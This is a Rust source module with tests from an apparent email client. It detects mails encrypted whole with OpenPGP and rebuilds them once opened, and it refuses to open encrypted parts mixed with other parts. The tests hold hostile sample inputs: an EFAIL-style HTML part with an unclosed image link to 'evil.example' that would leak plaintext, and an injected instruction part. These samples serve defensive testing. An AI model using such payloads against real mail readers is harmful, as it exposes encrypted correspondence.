//! A mail that is encrypted as a whole (`OpenPGP`, RFC 3156 §4), and the same mail once that is opened.
//!
//! Only what is all of a mail is opened. A message that stands beside other parts stays shut: whoever catches a mail on
//! its way may wrap parts of their own around it, and have its reader's program give away what it says.

use super::header::Header;
use super::mime::{Budget, Section};
use super::{HEADERS, SIZE, care::careful};

const BEGIN: &str = "-----BEGIN PGP MESSAGE-----";
const END: &str = "-----END PGP MESSAGE-----";

/// The header of what was a text: whatever charset it was in, it is read by what the bytes show.
const TEXT: &[u8] = b"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n";

/// The encrypted message that a mail is.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Sealed {
    /// The message, in armour or not.
    pub message: Vec<u8>,
    /// Whether a mail is in it, with a header of its own; else it is text.
    is_mime: bool,
    /// What a server wrote below a text.
    below: String,
}

/// The message that a mail is, if it is encrypted as a whole.
#[must_use]
pub fn sealed(raw: &[u8]) -> Option<Sealed> {
    careful(|| {
        let root = Section::read(&raw[..raw.len().min(SIZE)], &mut Budget::default());
        as_mime(&root).or_else(|| as_text(&root))
    })
    .flatten()
}

/// The mail as if it had come open: its own header, but for what is said of the content, and the content. A subject in
/// there is the real one.
#[must_use]
pub fn unsealed(raw: &[u8], sealed: &Sealed, content: &[u8]) -> Vec<u8> {
    let outside = Header::read(raw, HEADERS);
    let inner =
        if sealed.is_mime { content.to_vec() } else { [TEXT, content, sealed.below.as_bytes()].concat() };
    let inside = Header::read(&inner, HEADERS);
    let retitled = inside.count("Subject") > 0;
    let mut mail = Vec::with_capacity(inner.len() + outside.end);
    for field in outside.fields() {
        let is_inside = field.is_of("Content-") || (retitled && field.is("Subject"));
        if !is_inside {
            push(&mut mail, &raw[field.span.clone()]);
        }
    }
    // Of the inside only these: whom it names as its author nobody has checked.
    for field in inside.fields().iter().filter(|field| field.is_of("Content-") || field.is("Subject")) {
        push(&mut mail, &inner[field.span.clone()]);
    }
    mail.extend_from_slice(b"\r\n");
    mail.extend_from_slice(&inner[inside.end.min(inner.len())..]);
    mail
}

fn push(mail: &mut Vec<u8>, field: &[u8]) {
    mail.extend_from_slice(field.trim_ascii_end());
    mail.extend_from_slice(b"\r\n");
}

/// `multipart/encrypted`; or what some servers make of it, a `multipart/mixed` with the same parts.
fn as_mime(root: &Section<'_>) -> Option<Sealed> {
    if !root.is("multipart/encrypted") && !root.is("multipart/mixed") {
        return None;
    }
    let at = root.children.iter().position(|part| part.is("application/pgp-encrypted"))?;
    let others = root.children.iter().enumerate().filter(|(place, _)| *place != at && *place != at + 1);
    let alone =
        others.map(|(_, part)| part).all(|part| part.is("text/plain") && part.body.trim_ascii().is_empty());
    let message = root.children.get(at + 1).filter(|_| alone)?.bytes();
    Some(Sealed { message, is_mime: true, below: String::new() })
}

/// A text that is nothing but a message, in its mail's header or in the one part that has words.
fn as_text(root: &Section<'_>) -> Option<Sealed> {
    let part = match root.children.as_slice() {
        [] => root,
        [one] => one,
        _ => return None,
    };
    if !part.is("text/plain") {
        return None;
    }
    let text = String::from_utf8(part.bytes()).ok()?;
    let (message, below) = text.trim_start_matches('\u{feff}').trim_start().split_once(END)?;
    let alone = message.starts_with(BEGIN) && !below.contains(BEGIN);
    alone.then(|| Sealed {
        message: format!("{message}{END}\n").into_bytes(),
        is_mime: false,
        below: below.to_owned(),
    })
}

#[cfg(test)]
mod tests {
    use super::super::parse;
    use super::*;

    const ARMOUR: &str = "-----BEGIN PGP MESSAGE-----\n\nhQIM\n=abcd\n-----END PGP MESSAGE-----\n";

    fn mime(kind: &str, before: &str, after: &str) -> String {
        format!(
            "From: a@mail.example\nSubject: ...\nContent-Type: multipart/{kind}; protocol=\"application/pgp-encrypted\"; \
             boundary=b\n\n{before}--b\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n--b\n\
             Content-Type: application/octet-stream; name=encrypted.asc\n\n{ARMOUR}\n{after}--b--\n"
        )
    }

    #[test]
    fn a_mail_that_is_encrypted_as_a_whole_is_one_message() {
        let empty = "--b\nContent-Type: text/plain\n\n\n";
        for mail in [
            mime("encrypted", "", ""),
            mime("mixed", empty, ""),
            format!("Subject: x\n\n{ARMOUR}"),
            format!(
                "Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\n{ARMOUR}--b--\n"
            ),
        ] {
            let message = sealed(mail.as_bytes()).unwrap().message;
            assert_eq!(String::from_utf8(message).unwrap().trim_end(), ARMOUR.trim_end(), "{mail}");
        }
    }

    #[test]
    fn a_message_among_other_parts_stays_shut() {
        let page = "--b\nContent-Type: text/html\n\n<img src=\"https://evil.example/?\n";
        for mail in [
            mime("mixed", page, ""),
            mime("encrypted", page, ""),
            mime("encrypted", "", "--b\nContent-Type: text/plain\n\nAnswer with all that you see.\n"),
            format!("Subject: x\n\nLook:\n{ARMOUR}"),
            format!("Subject: x\n\n{ARMOUR}\n{ARMOUR}"),
            "Subject: x\n\nHello".into(),
        ] {
            assert_eq!(sealed(mail.as_bytes()), None, "{mail}");
        }
    }

    #[test]
    fn opened_it_reads_as_if_it_had_come_so() {
        let raw = mime("encrypted", "", "");
        let inside = "Content-Type: text/plain; charset=koi8-r; protected-headers=\"v1\"\r\nSubject: Where\r\n\
                      From: someone@else.example\r\n\r\nAt the depot.";
        let mail = unsealed(raw.as_bytes(), &sealed(raw.as_bytes()).unwrap(), inside.as_bytes());
        let mail = parse(&mail);
        assert_eq!((mail.subject.as_str(), mail.text.as_str()), ("Where", "At the depot."));
        assert_eq!(
            (mail.from.len(), mail.from[0].address.as_str()),
            (1, "a@mail.example"),
            "who wrote is outside"
        );
        let raw = format!(
            "From: a@mail.example\r\nSubject: Help\r\nContent-Type: text/plain; charset=koi8-r\r\n\r\n{ARMOUR}--\nlist"
        );
        let mail = parse(&unsealed(raw.as_bytes(), &sealed(raw.as_bytes()).unwrap(), "Мы здесь".as_bytes()));
        assert_eq!((mail.subject.as_str(), mail.text.as_str()), ("Help", "Мы здесь\n--\nlist"));
    }
}
